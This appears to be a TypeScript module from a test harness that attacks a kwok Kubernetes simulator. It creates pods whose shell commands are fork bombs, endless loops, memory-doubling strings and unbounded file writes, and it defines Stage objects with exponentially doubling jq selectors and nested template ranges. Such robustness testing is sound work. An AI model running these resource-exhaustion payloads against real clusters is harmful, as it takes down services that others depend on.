import { type Attack, pause } from "../attack.js";
import { send } from "../send.js";

const namespaces = "/api/v1/namespaces";
const pods = `${namespaces}/hostile/pods`;
const stages = "/apis/kwok.x-k8s.io/v1alpha1/stages";
const definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";

/** The command of containers on simulated nodes. */
interface Program {
  readonly name: string;
  readonly script: string;
  /** @default 5 */
  readonly pods?: number;
  /** More members of the container. */
  readonly container?: object;
}

const mebibyte = 'a=xxxxxxxx; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17; do a="$a$a"; done';

const programs: readonly Program[] = [
  { name: "a function that calls itself", script: "f() { f; }; f" },
  { name: "a function that pipes itself into itself", script: "f() { f | f; }; f" },
  { name: "a fork bomb in the background", script: "f() { f | f & }; f; while :; do :; done" },
  { name: "loops that do nothing", script: "while :; do :; done", pods: 50 },
  { name: "variables that double", script: "while :; do (a=xxxxxxxx; while :; do a=$a$a; done); done" },
  { name: "patterns on long texts", script: `${mebibyte}; while :; do b=\${a%%*b}; done` },
  { name: "words without end", script: 'while :; do printf "%s\\n" $(seq 100000); done' },
  { name: "lines of two mebibytes", script: `${mebibyte}; a=$a$a; while :; do echo "$a"; done` },
  { name: "output without end through a pipe", script: "while :; do echo xxxxxxxx; done | cat" },
  { name: "a script that calls itself", script: "echo 'sh /tmp/s' > /tmp/s; sh /tmp/s" },
  { name: "files without end", script: "i=0; while :; do i=$((i+1)); echo x > /tmp/$i; done" },
  {
    name: "exec probes",
    script: "sleep 1000",
    pods: 100,
    container: {
      readinessProbe: {
        exec: { command: ["sh", "-c", "i=0; while [ $i -lt 100 ]; do i=$((i+1)); done"] },
        periodSeconds: 1,
      },
      livenessProbe: {
        exec: { command: ["sh", "-c", "i=0; while [ $i -lt 100 ]; do i=$((i+1)); done"] },
        periodSeconds: 1,
      },
    },
  },
];

/** Makes pods, waits, and deletes them: also their ends are part of the attack. */
const programAttack = ({ name, script, pods: count = 5, container }: Program): Attack => ({
  name: `programs of simulated pods: ${name}`,
  on: "cluster",
  async run(target, signal) {
    await send(target, "POST", namespaces, { metadata: { name: "hostile" } });
    await send(target, "POST", `${namespaces}/hostile/serviceaccounts`, { metadata: { name: "default" } });
    const command = ["sh", "-c", `trap 'while :; do :; done' TERM; ${script}`];
    for (let i = 0; i < count && !signal.aborted; i++)
      await send(target, "POST", pods, {
        metadata: { generateName: "hostile-" },
        spec: {
          terminationGracePeriodSeconds: 1,
          containers: [{ name: "a", image: "b", command, ...container }],
        },
      });
    await pause(1_000_000, signal);
    await send(target, "DELETE", pods);
    await pause(3000, new AbortController().signal);
  },
});

const doubling = Array.from({ length: 22 }, () => "(.,.)").join(" | ");
const stageSpecs: readonly { readonly name: string; readonly spec: object }[] = [
  {
    name: "jq whose values double",
    spec: { selector: { matchExpressions: [{ key: doubling, operator: "Exists" }] } },
  },
  {
    name: "ranges in ranges of a template",
    spec: {
      selector: { matchExpressions: [{ key: ".metadata.name", operator: "Exists" }] },
      next: { statusTemplate: "{{ range 1000000 }}{{ range 1000000 }}{{ end }}{{ end }}" },
    },
  },
];

const stageAttack = ({ name, spec }: (typeof stageSpecs)[number]): Attack => ({
  name: `Stages of simulated nodes: ${name}`,
  on: "cluster",
  async run(target, signal) {
    await send(target, "POST", definitions, {
      metadata: { name: "stages.kwok.x-k8s.io" },
      spec: {
        group: "kwok.x-k8s.io",
        scope: "Cluster",
        names: { plural: "stages", singular: "stage", kind: "Stage", listKind: "StageList" },
        versions: [
          {
            name: "v1alpha1",
            served: true,
            storage: true,
            schema: { openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true } },
          },
        ],
      },
    });
    for (let i = 0; !signal.aborted; i++) {
      await send(target, "POST", stages, {
        apiVersion: "kwok.x-k8s.io/v1alpha1",
        kind: "Stage",
        metadata: { name: `hostile-${i}` },
        spec: { resourceRef: { apiGroup: "v1", kind: "Pod" }, ...spec },
      });
      await pause(20, signal);
    }
    await send(target, "DELETE", stages);
  },
});

/** Programs of users that simulated nodes run in the server's process. */
export const programAttacks: readonly Attack[] = [...programs.map(programAttack), ...stageSpecs.map(stageAttack)];
